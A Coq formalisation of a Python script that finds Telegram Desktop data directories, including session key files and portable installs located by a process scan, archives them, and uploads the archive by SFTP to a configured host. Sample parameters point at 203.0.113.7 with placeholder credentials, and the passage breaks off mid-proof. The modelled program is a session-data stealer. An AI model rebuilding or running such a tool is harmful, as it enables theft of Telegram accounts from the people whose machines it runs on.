(** * TGpyrate: a shallow embedding of [tgpyrate.py]

    The script has three stages run in sequence by [main]: [init] (locate
    the data directories), the archive loop of [tgpyrate], and [send_file]
    (upload).  Everything the script does beyond list manipulation is a call
    into a library (pathlib, psutil, tarfile, tempfile, paramiko).  Those
    calls are modelled by a [World] of oracles that say what each call
    answers or raises, and every call is recorded in a trace of [event]s, so
    that "no connection attempt", "closes in that order" and the like are
    statements about the trace.

    The oracles cover the calls that the script guards or that the
    specification speaks of as failing: the process scan, the walk, [add],
    and the four paramiko calls up to [putfo].  [is_dir] answers a boolean;
    creating the temporary file, opening and closing the archive, the seek
    and the three closes are taken to return. *)

From Stdlib Require Import List String Ascii ZArith Bool Arith Lia.
Import ListNotations.
Open Scope string_scope.
Open Scope list_scope.

(** ** Python exceptions

    Only the part of the class hierarchy the two [except] clauses of the
    script can tell apart: [PermissionError], the other subclasses of
    [Exception], [SystemExit] (what [exit(n)] raises) and the other classes
    that derive from [BaseException] only (such as KeyboardInterrupt). *)

Inductive pyexc : Type :=
| PermissionError
| OtherException (cls : string)
| SystemExit (code : Z)
| OtherBaseException (cls : string).

(** [isinstance(e, PermissionError)] *)
Definition isinstance_PermissionError (e : pyexc) : bool :=
  match e with
  | PermissionError => true
  | _ => false
  end.

(** [isinstance(e, Exception)] *)
Definition isinstance_Exception (e : pyexc) : bool :=
  match e with
  | PermissionError | OtherException _ => true
  | SystemExit _ | OtherBaseException _ => false
  end.

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Raised (e : pyexc).
Arguments Ok {A} a.
Arguments Raised {A} e.

(** ** Paths

    A [pathlib.Path] is its anchor (drive and root) and the names below it.
    Equality of the record is [Path.__eq__]; on the Windows flavour, which
    folds case, the strings are the folded ones. *)

Record Path : Type := mkPath { anchor : string; names : list string }.

Definition Path_eq_dec (p q : Path) : {p = q} + {p <> q}.
Proof.
  decide equality.
  - apply (list_eq_dec string_dec).
  - apply string_dec.
Defined.

Definition Path_eqb (p q : Path) : bool :=
  if Path_eq_dec p q then true else false.

(** [Path(base, 'a/b/c')] for a relative second argument *)
Definition Path_join (base : Path) (segments : list string) : Path :=
  mkPath (anchor base) (names base ++ segments).

(** [p.parent]: the last name is dropped; a bare anchor is its own parent *)
Definition parent (p : Path) : Path :=
  mkPath (anchor p) (removelast (names p)).

(** [p in locations] *)
Definition Path_in (p : Path) (locations : list Path) : bool :=
  existsb (Path_eqb p) locations.

(** ** The archive object and the calls the script makes *)

Record TarFile : Type := mkTar {
  tar_mode : string;
  tar_compresslevel : option Z;
  tar_members : list Path
}.

Inductive event : Type :=
| TemporaryFile
| TarOpen (mode : string) (compresslevel : option Z)
| Rglob (loc : Path)
| TarAdd (f : Path)
| TarClose
| Seek (offset : Z)
| Transport (host : string) (port : Z)
| Connect (username password : string)
| FromTransport
| Putfo (file : TarFile) (dest : string)
| SftpClose
| TransportClose
| TempClose.

(** ** The machine the script runs on *)

Record Process : Type := mkProcess {
  (** [p.info['name']], [None] when psutil could not read it *)
  p_name : option string;
  (** [Path(p.exe())] *)
  p_exe : result Path
}.

Record World : Type := mkWorld {
  (** [loc.is_dir()] *)
  is_dir : Path -> bool;
  (** [psutil.process_iter(['name'])] *)
  process_iter : list Process;
  (** [loc.rglob('*')]: the entries the generator yields, and the exception
      it ends with when it does not run to exhaustion *)
  rglob : Path -> list Path * option pyexc;
  (** what [opened_tar.add(f, recursive=False)] raises *)
  tar_add : Path -> option pyexc;
  (** what [paramiko.Transport((host, port))] raises *)
  transport_new : string -> Z -> option pyexc;
  (** what [ssh_transport.connect(username=, password=)] raises *)
  transport_connect : string -> string -> option pyexc;
  (** what [paramiko.SFTPClient.from_transport] raises *)
  sftp_from_transport : option pyexc;
  (** what [sftp.putfo(file, dest)] raises *)
  sftp_putfo : TarFile -> string -> option pyexc
}.

(** ** Module-level names *)

(** The user parameters and [PORTABLE_DETECTION] *)
Record Params : Type := mkParams {
  PORTABLE_DETECTION : bool;
  SFTP_HOST : string;
  SFTP_PORT : Z;
  SFTP_USER : string;
  SFTP_PASS : string;
  SFTP_DEST : string;
  GZIP_COMP_LEVEL : option Z
}.

(** The two module-level lists that [init] mutates *)
Record Globals : Type := mkGlobals {
  installation_locations : list Path;
  installations : list Path
}.

(** ** What the module reads when it is imported *)

Record datetime : Type := mkDatetime {
  year : nat; month : nat; day : nat;
  hour : nat; minute : nat; second : nat;
  microsecond : nat;
  (** [utcoffset()] in seconds *)
  utcoffset : Z
}.

Record Env : Type := mkEnv {
  os_name : string;
  psutil_importable : bool;
  home : Path;
  APPDATA : Path;
  LOCALAPPDATA : Path;
  platform_platform : string;
  (** [datetime.now(timezone.utc).astimezone()] *)
  now : datetime
}.

(** the last decimal digit of [n] as a character *)
Definition digit (n : nat) : ascii := ascii_of_nat (48 + n mod 10).

(** [n] on two digits and on four, for the ranges the fields of a datetime
    have (a year is at most 9999, the others at most 99) *)
Definition zfill2 (n : nat) : string :=
  String (digit (n / 10)) (String (digit n) EmptyString).

Definition zfill4 (n : nat) : string :=
  String (digit (n / 1000)) (String (digit (n / 100)) (zfill2 n)).

(** the UTC offset as isoformat prints it: sign, hours, minutes, and the
    seconds only when there are some *)
Definition format_offset (off : Z) : string :=
  let sign := if (off <? 0)%Z then "-" else "+" in
  let a := Z.abs_nat off in
  let hh := a / 3600 in
  let mm := (a mod 3600) / 60 in
  let ss := a mod 60 in
  (sign ++ zfill2 hh ++ ":" ++ zfill2 mm
        ++ (if Nat.eqb ss 0 then "" else ":" ++ zfill2 ss))%string.

(** [d.isoformat(timespec='seconds')] *)
Definition isoformat_seconds (d : datetime) : string :=
  (zfill4 (year d) ++ "-" ++ zfill2 (month d) ++ "-" ++ zfill2 (day d)
     ++ "T" ++ zfill2 (hour d) ++ ":" ++ zfill2 (minute d) ++ ":"
     ++ zfill2 (second d) ++ format_offset (utcoffset d))%string.

Definition import_PORTABLE_DETECTION (env : Env) : bool :=
  if String.eqb (os_name env) "nt" then psutil_importable env else false.

Definition import_SFTP_DEST (env : Env) : string :=
  (platform_platform env ++ "-" ++ isoformat_seconds (now env)
     ++ ".tar")%string.

Definition import_installation_locations (env : Env) : list Path :=
  [ Path_join (home env) [".local"; "share"; "TelegramDesktop"];
    Path_join (home env)
      [".var"; "app"; "org.telegram.desktop"; "data"; "TelegramDesktop"];
    Path_join (home env)
      ["snap"; "telegram-desktop"; "current"; ".local"; "share";
       "TelegramDesktop"];
    Path_join (home env)
      ["Library"; "Application Support"; "Telegram Desktop"] ]
  ++ (if String.eqb (os_name env) "nt"
      then [ Path_join (APPDATA env) ["Telegram Desktop"];
             Path_join (LOCALAPPDATA env)
               ["Packages";
                "TelegramMessengerLLP.TelegramDesktop_t4vj0pshhgkwm";
                "LocalCache"; "Roaming"; "Telegram Desktop UWP"] ]
      else []).

(** The module's names after import, the connection parameters and the
    compression level being the literals the user wrote in the file *)
Definition import_params (env : Env) (host : string) (port : Z)
    (user pwd : string) (level : option Z) : Params :=
  mkParams (import_PORTABLE_DETECTION env) host port user pwd
           (import_SFTP_DEST env) level.

(** ** Effects: global state, exceptions, and the trace of library calls *)

Definition M (A : Type) : Type := Globals -> result A * Globals * list event.

Definition ret {A} (a : A) : M A := fun g => (Ok a, g, []).

Definition bind {A B} (m : M A) (f : A -> M B) : M B :=
  fun g =>
    match m g with
    | (Ok a, g1, t1) =>
        match f a g1 with
        | (r, g2, t2) => (r, g2, t1 ++ t2)
        end
    | (Raised e, g1, t1) => (Raised e, g1, t1)
    end.

Definition raise {A} (e : pyexc) : M A := fun g => (Raised e, g, []).

Definition get : M Globals := fun g => (Ok g, g, []).

Definition put (g : Globals) : M unit := fun _ => (Ok tt, g, []).

Definition emit (ev : event) : M unit := fun g => (Ok tt, g, [ev]).

(** [try: m except <catches>: handler] *)
Definition try_except {A} (m : M A) (catches : pyexc -> bool)
    (handler : M A) : M A :=
  fun g =>
    match m g with
    | (Raised e, g1, t1) =>
        if catches e
        then match handler g1 with
             | (r, g2, t2) => (r, g2, t1 ++ t2)
             end
        else (Raised e, g1, t1)
    | r => r
    end.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity) : py_scope.
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 61, right associativity) : py_scope.
Open Scope py_scope.

(** a library call: recorded, then it returns or raises *)
Definition call (ev : event) (raises : option pyexc) : M unit :=
  emit ev ;;
  match raises with
  | None => ret tt
  | Some e => raise e
  end.

(** the builtin [exit(code)] *)
Definition exit {A} (code : Z) : M A := raise (SystemExit code).

(** [for x in l: body], with the locals the body updates threaded as [b] *)
Fixpoint for_each {A B} (l : list A) (body : A -> B -> M B) (b : B) : M B :=
  match l with
  | [] => ret b
  | x :: l' => b' <- body x b ;; for_each l' body b'
  end.

Definition outcome {A} (r : result A * Globals * list event) : result A :=
  fst (fst r).
Definition final {A} (r : result A * Globals * list event) : Globals :=
  snd (fst r).
Definition trace {A} (r : result A * Globals * list event) : list event :=
  snd r.

(** the status the interpreter exits with: 0 when the script returns, the
    code of a [SystemExit], 1 for any other uncaught exception *)
Definition exit_status (r : result unit) : Z :=
  match r with
  | Ok _ => 0
  | Raised (SystemExit code) => code
  | Raised _ => 1
  end.

(** ** The script *)

Section Script.

Variable w : World.
Variable cfg : Params.

Definition pgrep (name : string) : list Process :=
  filter (fun p => match p_name p with
                   | Some n => String.eqb n name
                   | None => false
                   end)
         (process_iter w).

(** the body of the loop of [find_portable] *)
Definition find_portable_body (process : Process)
    (portable_installations : list Path) : M (list Path) :=
  match p_exe process with
  | Raised e => raise e
  | Ok exe =>
      let exe_parent := parent exe in
      g <- get ;;
      if negb (Path_in exe_parent (installation_locations g))
      then ret (portable_installations ++ [exe_parent])
      else ret portable_installations
  end.

Definition find_portable : M (list Path) :=
  for_each (pgrep "Telegram.exe") find_portable_body [].

(** the body of the loop of [init] *)
Definition init_body (loc : Path) (_ : unit) : M unit :=
  if is_dir w loc
  then g <- get ;;
       put (mkGlobals (installation_locations g) (installations g ++ [loc]))
  else ret tt.

Definition init : M unit :=
  (if PORTABLE_DETECTION cfg
   then found <- find_portable ;;
        g <- get ;;
        put (mkGlobals (installation_locations g ++ found) (installations g))
   else ret tt) ;;
  g <- get ;;
  for_each (installation_locations g) init_body tt ;;
  g <- get ;;
  match installations g with
  | [] => exit 1
  | _ => ret tt
  end.

Definition send_file (host : string) (port : Z) (user pwd : string)
    (file : TarFile) (dest : string) : M unit :=
  try_except (call (Transport host port) (transport_new w host port))
             isinstance_Exception
             (exit 1) ;;
  call (Connect user pwd) (transport_connect w user pwd) ;;
  call FromTransport (sftp_from_transport w) ;;
  call (Putfo file dest) (sftp_putfo w file dest) ;;
  emit SftpClose ;;
  emit TransportClose.

(** truth value of [GZIP_COMP_LEVEL] in [if GZIP_COMP_LEVEL:] *)
Definition truthy (level : option Z) : bool :=
  match level with
  | None => false
  | Some n => negb (n =? 0)%Z
  end.

(** [tarfile.open(mode=, fileobj=temp_file, compresslevel=)] *)
Definition tarfile_open (mode : string) (compresslevel : option Z)
  : M TarFile :=
  emit (TarOpen mode compresslevel) ;;
  ret (mkTar mode compresslevel []).

(** the archive after [fs] were written to it *)
Definition tar_extend (tar : TarFile) (fs : list Path) : TarFile :=
  mkTar (tar_mode tar) (tar_compresslevel tar) (tar_members tar ++ fs).

(** the body of the inner loop: [try: opened_tar.add(f, recursive=False)
    except PermissionError: continue] *)
Definition add_entry (f : Path) (opened_tar : TarFile) : M TarFile :=
  try_except
    (call (TarAdd f) (tar_add w f) ;;
     ret (tar_extend opened_tar [f]))
    isinstance_PermissionError
    (ret opened_tar).

(** one round of the outer loop: [for f in loc.rglob('*'): ...] *)
Definition walk (loc : Path) (opened_tar : TarFile) : M TarFile :=
  emit (Rglob loc) ;;
  opened_tar' <- for_each (fst (rglob w loc)) add_entry opened_tar ;;
  match snd (rglob w loc) with
  | None => ret opened_tar'
  | Some e => raise e
  end.

Definition tgpyrate : M unit :=
  emit TemporaryFile ;;
  opened_tar <-
    (if truthy (GZIP_COMP_LEVEL cfg)
     then tarfile_open "w:gz" (GZIP_COMP_LEVEL cfg)
     else tarfile_open "w" None) ;;
  g <- get ;;
  opened_tar <- for_each (installations g) walk opened_tar ;;
  emit TarClose ;;
  emit (Seek 0) ;;
  send_file (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg) (SFTP_PASS cfg)
            opened_tar (SFTP_DEST cfg) ;;
  emit TempClose.

Definition main : M unit :=
  init ;;
  tgpyrate.

End Script.

(** a run of the script from freshly imported module state whose candidate
    list is [locations] *)
Definition run (w : World) (cfg : Params) (locations : list Path)
  : result unit * Globals * list event :=
  main w cfg (mkGlobals locations []).

(** ** Vocabulary of the statements *)

(** the directories of the executables of the processes [ps] *)
Definition exe_parents (ps : list Process) : list Path :=
  flat_map (fun p => match p_exe p with
                     | Ok exe => [parent exe]
                     | Raised _ => []
                     end) ps.

(** [p.exe()] answers for every process of [ps] *)
Definition exes_readable (ps : list Process) : bool :=
  forallb (fun p => match p_exe p with
                    | Ok _ => true
                    | Raised _ => false
                    end) ps.

(** what the first statement of [init] appends to the candidate list *)
Definition scan_result (w : World) (cfg : Params) (locations : list Path)
  : result (list Path) :=
  if PORTABLE_DETECTION cfg
  then outcome (find_portable w (mkGlobals locations []))
  else Ok [].

(** adding [f] succeeds or raises a permission error *)
Definition add_survives (w : World) (f : Path) : bool :=
  match tar_add w f with
  | None => true
  | Some e => isinstance_PermissionError e
  end.

(** the walk of [loc] runs to its end *)
Definition walk_survives (w : World) (loc : Path) : bool :=
  forallb (add_survives w) (fst (rglob w loc))
  && match snd (rglob w loc) with
     | None => true
     | Some _ => false
     end.

(** adding [f] succeeds *)
Definition added (w : World) (f : Path) : bool :=
  match tar_add w f with
  | None => true
  | Some _ => false
  end.

(** how many times [d] is walked in the trace [t] *)
Definition walks (d : Path) (t : list event) : nat :=
  List.length (filter (fun ev => match ev with
                            | Rglob loc => Path_eqb loc d
                            | _ => false
                            end) t).

(** calls into paramiko *)
Definition network_event (ev : event) : bool :=
  match ev with
  | Transport _ _ | Connect _ _ | FromTransport | Putfo _ _
  | SftpClose | TransportClose => true
  | _ => false
  end.

(** the calls of one undisturbed walk of [loc] *)
Definition walk_trace (w : World) (loc : Path) : list event :=
  Rglob loc :: map TarAdd (fst (rglob w loc)).

(** calls of the archive loop *)
Definition archive_event (ev : event) : bool :=
  match ev with
  | Rglob _ | TarAdd _ => true
  | _ => false
  end.

(** the calls of an upload that meets no exception *)
Definition upload_calls (host : string) (port : Z) (user pwd : string)
    (file : TarFile) (dest : string) : list event :=
  [Transport host port; Connect user pwd; FromTransport; Putfo file dest;
   SftpClose; TransportClose].

(** the archive as [tgpyrate] opens it *)
Definition fresh_tar (cfg : Params) : TarFile :=
  if truthy (GZIP_COMP_LEVEL cfg)
  then mkTar "w:gz" (GZIP_COMP_LEVEL cfg) []
  else mkTar "w" None [].

(** the entries the walks of [locs] yield, in order *)
Definition yielded (w : World) (locs : list Path) : list Path :=
  flat_map (fun loc => fst (rglob w loc)) locs.

(** the same instant with another microsecond field *)
Definition with_microsecond (d : datetime) (us : nat) : datetime :=
  mkDatetime (year d) (month d) (day d) (hour d) (minute d) (second d)
             us (utcoffset d).

(** the two ways [tgpyrate] can go: an exception leaves the archive loop,
    or [send_file] is called with the archive [tar] and the run ends as
    [send_file] does, closing the temporary file when that returns *)
Inductive stage_kind (w : World) (cfg : Params)
    (r : result unit * Globals * list event) : Prop :=
| ends_in_archive (e : pyexc) (ta : list event) :
    outcome r = Raised e ->
    forallb archive_event ta = true ->
    trace r = TemporaryFile
              :: TarOpen (tar_mode (fresh_tar cfg))
                         (tar_compresslevel (fresh_tar cfg)) :: ta ->
    stage_kind w cfg r
| reaches_upload (ta tu : list event) (tar : TarFile) :
    forallb archive_event ta = true ->
    send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
              (SFTP_PASS cfg) tar (SFTP_DEST cfg) (final r)
    = (outcome r, final r, tu) ->
    trace r = TemporaryFile
              :: TarOpen (tar_mode (fresh_tar cfg))
                         (tar_compresslevel (fresh_tar cfg))
              :: ta ++ TarClose :: Seek 0
              :: tu ++ match outcome r with
                       | Ok _ => [TempClose]
                       | Raised _ => []
                       end ->
    stage_kind w cfg r.

(** ** A sample machine

    A Linux home with one Telegram data directory holding three entries, and
    a Windows-style portable directory; the arguments choose the running
    processes and what the fallible calls raise. *)

Definition example_home : Path := mkPath "/" ["home"; "user"].

Definition example_env : Env :=
  mkEnv "posix" false example_home (mkPath "" []) (mkPath "" [])
        "Linux-5.10.0-8-amd64-x86_64-with-glibc2.31"
        (mkDatetime 2021 1 8 17 31 51 4321 (-28800)).

Definition tdata : Path :=
  Path_join example_home [".local"; "share"; "TelegramDesktop"].

Definition key_datas : Path := Path_join tdata ["tdata"; "key_datas"].

Definition example_entries : list Path :=
  [Path_join tdata ["tdata"]; key_datas; Path_join tdata ["log.txt"]].

Definition portable_dir : Path := mkPath "d:\" ["portable"].

Definition portable_exe : Path := mkPath "d:\" ["portable"; "telegram.exe"].

Definition example_world (procs : list Process)
    (add_key walk_end new_raises connect_raises putfo_raises : option pyexc)
  : World :=
  mkWorld (fun p => Path_eqb p tdata || Path_eqb p portable_dir)
          procs
          (fun loc => if Path_eqb loc tdata
                      then (example_entries, walk_end)
                      else ([], None))
          (fun f => if Path_eqb f key_datas then add_key else None)
          (fun _ _ => new_raises)
          (fun _ _ => connect_raises)
          None
          (fun _ _ => putfo_raises).

Definition example_params (detection : bool) (level : option Z) : Params :=
  mkParams detection "203.0.113.7" 22 "user" "secret"
           (import_SFTP_DEST example_env) level.

Definition example_locations : list Path :=
  import_installation_locations example_env.

Definition telegram_process : Process :=
  mkProcess (Some "Telegram.exe") (Ok portable_exe).

Definition example_env_nt : Env :=
  mkEnv "nt" true (mkPath "c:\" ["users"; "user"])
        (mkPath "c:\" ["users"; "user"; "appdata"; "roaming"])
        (mkPath "c:\" ["users"; "user"; "appdata"; "local"])
        "Windows-10-10.0.19041-SP0"
        (mkDatetime 2021 1 8 17 31 51 4321 (-28800)).

Definition example_params_nt : Params :=
  import_params example_env_nt "203.0.113.7" 22 "user" "secret" None.

Definition example_locations_nt : list Path :=
  import_installation_locations example_env_nt.

(** ** Vocabulary of the further statements *)

(** the exception of the first process of [ps] whose [exe()] raises *)
Fixpoint first_unreadable (ps : list Process) : option pyexc :=
  match ps with
  | [] => None
  | p :: ps' =>
      match p_exe p with
      | Raised e => Some e
      | Ok _ => first_unreadable ps'
      end
  end.

(** the archive of every entry of the walks of [insts] whose [add]
    succeeded *)
Definition complete_archive (w : World) (cfg : Params) (insts : list Path)
  : TarFile :=
  tar_extend (fresh_tar cfg) (filter (added w) (yielded w insts)).


(** ** The monad's equations *)

Ltac run_m :=
  unfold bind, ret, raise, get, put, emit, call, exit, try_except,
         outcome, final, trace in *;
  simpl in *.

Lemma bind_Ok {A B} (m : M A) (f : A -> M B) g a g1 t1 :
  m g = (Ok a, g1, t1) ->
  bind m f g = (fst (f a g1), t1 ++ snd (f a g1)).
Proof.
  intros H. unfold bind. rewrite H.
  destruct (f a g1) as [[r g2] t2]. reflexivity.
Qed.

Lemma bind_Raised {A B} (m : M A) (f : A -> M B) g e g1 t1 :
  m g = (Raised e, g1, t1) ->
  bind m f g = (Raised e, g1, t1).
Proof.
  intros H. unfold bind. rewrite H. reflexivity.
Qed.

(** ** The locator *)

Lemma Path_in_In (p : Path) (l : list Path) :
  Path_in p l = true <-> In p l.
Proof.
  unfold Path_in. rewrite existsb_exists. split.
  - intros [q [Hq Heq]]. unfold Path_eqb in Heq.
    destruct (Path_eq_dec p q); [subst; exact Hq | discriminate].
  - intros H. exists p. split; [exact H|].
    unfold Path_eqb. destruct (Path_eq_dec p p); congruence.
Qed.

Lemma find_portable_loop (ps : list Process) :
  exes_readable ps = true ->
  forall acc g,
    for_each ps find_portable_body acc g
    = (Ok (acc ++ filter (fun d => negb (Path_in d (installation_locations g)))
                         (exe_parents ps)), g, []).
Proof.
  induction ps as [|p ps IH]; intros Hr acc g; simpl.
  - rewrite app_nil_r. reflexivity.
  - simpl in Hr. apply andb_prop in Hr. destruct Hr as [Hp Hps].
    unfold find_portable_body at 1.
    destruct (p_exe p) as [exe|e]; [|discriminate].
    run_m.
    destruct (Path_in (parent exe) (installation_locations g)) eqn:Hin;
      simpl; rewrite (IH Hps); simpl.
    + reflexivity.
    + rewrite <- app_assoc. reflexivity.
Qed.

Lemma init_loop (w : World) (l : list Path) :
  forall locs insts,
    for_each l (init_body w) tt (mkGlobals locs insts)
    = (Ok tt, mkGlobals locs (insts ++ filter (is_dir w) l), []).
Proof.
  induction l as [|loc l IH]; intros locs insts; simpl.
  - rewrite app_nil_r. reflexivity.
  - unfold init_body at 1.
    destruct (is_dir w loc); run_m; rewrite IH; simpl.
    + rewrite <- app_assoc. reflexivity.
    + reflexivity.
Qed.

(** the scan reads the candidate list and the processes, and nothing else *)
Lemma find_portable_quiet (ps : list Process) :
  forall acc g,
    for_each ps find_portable_body acc g
    = (outcome (for_each ps find_portable_body acc g), g, []).
Proof.
  induction ps as [|p ps IH]; intros acc g; simpl.
  - reflexivity.
  - unfold find_portable_body at 1 3.
    destruct (p_exe p) as [exe|e]; [|reflexivity].
    unfold bind, get, outcome in *.
    destruct (negb (Path_in (parent exe) (installation_locations g)));
      simpl; rewrite IH; reflexivity.
Qed.

Lemma init_run (w : World) (cfg : Params) (locs found : list Path) :
  scan_result w cfg locs = Ok found ->
  init w cfg (mkGlobals locs [])
  = (match filter (is_dir w) (locs ++ found) with
     | [] => Raised (SystemExit 1)
     | _ => Ok tt
     end,
     mkGlobals (locs ++ found) (filter (is_dir w) (locs ++ found)),
     []).
Proof.
  unfold scan_result, init. intros Hscan.
  destruct (PORTABLE_DETECTION cfg).
  - assert (Hfp : find_portable w (mkGlobals locs [])
                  = (Ok found, mkGlobals locs [], [])).
    { unfold find_portable in *. rewrite find_portable_quiet.
      rewrite Hscan. reflexivity. }
    unfold bind, get, put. simpl. rewrite Hfp. simpl.
    rewrite init_loop. simpl.
    destruct (filter (is_dir w) (locs ++ found)); reflexivity.
  - inversion Hscan; subst found. rewrite app_nil_r.
    unfold bind, get, put. simpl.
    rewrite init_loop. simpl.
    destruct (filter (is_dir w) locs); reflexivity.
Qed.

Lemma scan_result_readable (w : World) (cfg : Params) (locs : list Path) :
  PORTABLE_DETECTION cfg = true ->
  exes_readable (pgrep w "Telegram.exe") = true ->
  scan_result w cfg locs
  = Ok (filter (fun d => negb (Path_in d locs))
               (exe_parents (pgrep w "Telegram.exe"))).
Proof.
  intros Hpd Hr. unfold scan_result, find_portable. rewrite Hpd.
  rewrite (find_portable_loop _ Hr). reflexivity.
Qed.

Lemma filter_nil_iff {A} (f : A -> bool) (l : list A) :
  filter f l = [] <-> forall x, In x l -> f x = false.
Proof.
  induction l as [|a l IH]; simpl.
  - split; [intros _ x []|reflexivity].
  - destruct (f a) eqn:Hfa.
    + split; [discriminate|].
      intros H. rewrite (H a (or_introl eq_refl)) in Hfa. discriminate.
    + rewrite IH. split.
      * intros H x [->|Hx]; auto.
      * intros H x Hx. apply H. right. exact Hx.
Qed.

(** C1. When none of the candidate locations (the static list followed by
    what the process scan appended) is a directory, the run ends inside
    [init] with [exit(1)]: the exit status is 1, and the trace is empty, so
    in particular there is no call into paramiko. *)
Theorem no_installation_exits_1 (w : World) (cfg : Params)
    (locs found : list Path) :
  scan_result w cfg locs = Ok found ->
  (forall p, In p (locs ++ found) -> is_dir w p = false) ->
  outcome (run w cfg locs) = Raised (SystemExit 1)
  /\ exit_status (outcome (run w cfg locs)) = 1%Z
  /\ outcome (init w cfg (mkGlobals locs [])) = Raised (SystemExit 1)
  /\ trace (run w cfg locs) = []
  /\ (forall ev, In ev (trace (run w cfg locs)) -> network_event ev = false).
Proof.
  intros Hscan Hnone.
  apply filter_nil_iff in Hnone.
  pose proof (init_run w cfg locs found Hscan) as Hinit.
  rewrite Hnone in Hinit.
  assert (Hrun : run w cfg locs
                 = (Raised (SystemExit 1), mkGlobals (locs ++ found) [], [])).
  { unfold run, main. apply bind_Raised. exact Hinit. }
  rewrite Hrun, Hinit. simpl.
  repeat split; try reflexivity.
  intros ev [].
Qed.

(** C2. When at least one candidate location is a directory, [init]
    returns, and the installation set it leaves is the candidate list
    filtered by [is_dir]: it holds every candidate that is a directory and no
    other path. *)
Theorem installations_exactly_existing (w : World) (cfg : Params)
    (locs found : list Path) :
  scan_result w cfg locs = Ok found ->
  (exists p, In p (locs ++ found) /\ is_dir w p = true) ->
  let r := init w cfg (mkGlobals locs []) in
  outcome r = Ok tt
  /\ installation_locations (final r) = locs ++ found
  /\ installations (final r) = filter (is_dir w) (locs ++ found)
  /\ (forall p, In p (installations (final r))
                <-> In p (locs ++ found) /\ is_dir w p = true).
Proof.
  intros Hscan [p [Hin Hdir]] r. subst r.
  rewrite (init_run w cfg locs found Hscan).
  unfold outcome, final. simpl.
  split; [|split; [reflexivity|split; [reflexivity|]]].
  - destruct (filter (is_dir w) (locs ++ found)) eqn:Hf; [|reflexivity].
    rewrite filter_nil_iff in Hf. rewrite (Hf p Hin) in Hdir. discriminate.
  - intros q. apply filter_In.
Qed.

Lemma pgrep_In (w : World) (name : string) (p : Process) :
  In p (pgrep w name) <-> In p (process_iter w) /\ p_name p = Some name.
Proof.
  unfold pgrep. rewrite filter_In.
  destruct (p_name p) as [n|].
  - split; intros [Hin H]; split; auto.
    + apply String.eqb_eq in H. congruence.
    + inversion H. apply String.eqb_refl.
  - split; intros [Hin H]; discriminate.
Qed.

Lemma exe_parents_In (ps : list Process) (p : Process) (exe : Path) :
  In p ps -> p_exe p = Ok exe -> In (parent exe) (exe_parents ps).
Proof.
  intros Hin Hexe. unfold exe_parents. apply in_flat_map.
  exists p. split; [exact Hin|]. rewrite Hexe. left. reflexivity.
Qed.

Lemma count_occ_filter (f : Path -> bool) (l : list Path) (d : Path) :
  count_occ Path_eq_dec (filter f l) d
  = if f d then count_occ Path_eq_dec l d else 0.
Proof.
  induction l as [|a l IH]; simpl.
  - destruct (f d); reflexivity.
  - destruct (f a) eqn:Hfa; simpl; destruct (Path_eq_dec a d) as [->|Hne].
    + rewrite IH, Hfa. reflexivity.
    + exact IH.
    + rewrite IH, Hfa. reflexivity.
    + exact IH.
Qed.

(** C9. With the scan enabled and every matching process answering
    [exe()], the directory of a matching process's executable is among the
    paths [init] appends to the candidate list if and only if it is not in
    the static list. *)
Theorem portable_added_iff_not_static (w : World) (cfg : Params)
    (locs : list Path) :
  PORTABLE_DETECTION cfg = true ->
  exes_readable (pgrep w "Telegram.exe") = true ->
  exists found,
    outcome (find_portable w (mkGlobals locs [])) = Ok found
    /\ installation_locations (final (init w cfg (mkGlobals locs [])))
       = locs ++ found
    /\ forall p exe,
         In p (process_iter w) ->
         p_name p = Some "Telegram.exe" ->
         p_exe p = Ok exe ->
         (In (parent exe) found <-> ~ In (parent exe) locs).
Proof.
  intros Hpd Hr.
  pose proof (scan_result_readable w cfg locs Hpd Hr) as Hscan.
  exists (filter (fun d => negb (Path_in d locs))
                 (exe_parents (pgrep w "Telegram.exe"))).
  split; [|split].
  - unfold scan_result in Hscan. rewrite Hpd in Hscan. exact Hscan.
  - rewrite (init_run w cfg locs _ Hscan). reflexivity.
  - intros p exe Hin Hname Hexe. rewrite filter_In.
    assert (Hpar : In (parent exe) (exe_parents (pgrep w "Telegram.exe"))).
    { apply exe_parents_In with (p := p); [|exact Hexe].
      apply pgrep_In. split; assumption. }
    rewrite negb_true_iff, <- not_true_iff_false, Path_in_In. tauto.
Qed.

(** ** The archiver *)

Lemma add_entry_added (w : World) (f : Path) (tar : TarFile) (g : Globals) :
  tar_add w f = None ->
  add_entry w f tar g = (Ok (tar_extend tar [f]), g, [TarAdd f]).
Proof.
  intros H. unfold add_entry. run_m. rewrite H. reflexivity.
Qed.

Lemma add_entry_skipped (w : World) (f : Path) (tar : TarFile) (g : Globals)
    (e : pyexc) :
  tar_add w f = Some e ->
  isinstance_PermissionError e = true ->
  add_entry w f tar g = (Ok tar, g, [TarAdd f]).
Proof.
  intros H He. unfold add_entry. run_m. rewrite H. simpl. rewrite He.
  reflexivity.
Qed.

Lemma add_entry_raised (w : World) (f : Path) (tar : TarFile) (g : Globals)
    (e : pyexc) :
  tar_add w f = Some e ->
  isinstance_PermissionError e = false ->
  add_entry w f tar g = (Raised e, g, [TarAdd f]).
Proof.
  intros H He. unfold add_entry. run_m. rewrite H. simpl. rewrite He.
  reflexivity.
Qed.

Lemma tar_extend_nil (tar : TarFile) : tar_extend tar [] = tar.
Proof.
  destruct tar. unfold tar_extend. simpl. rewrite app_nil_r. reflexivity.
Qed.

Lemma tar_extend_app (tar : TarFile) (fs fs' : list Path) :
  tar_extend (tar_extend tar fs) fs' = tar_extend tar (fs ++ fs').
Proof.
  unfold tar_extend. simpl. rewrite app_assoc. reflexivity.
Qed.

Lemma add_loop_survives (w : World) (fs : list Path) :
  forallb (add_survives w) fs = true ->
  forall tar g,
    for_each fs (add_entry w) tar g
    = (Ok (tar_extend tar (filter (added w) fs)), g, map TarAdd fs).
Proof.
  induction fs as [|f fs IH]; intros Hs tar g; simpl.
  - rewrite tar_extend_nil. reflexivity.
  - simpl in Hs. apply andb_prop in Hs. destruct Hs as [Hf Hfs].
    unfold add_survives in Hf. unfold added at 1.
    destruct (tar_add w f) as [e|] eqn:Hadd.
    + rewrite (bind_Ok _ _ _ _ _ _ (add_entry_skipped w f tar g e Hadd Hf)).
      rewrite (IH Hfs). reflexivity.
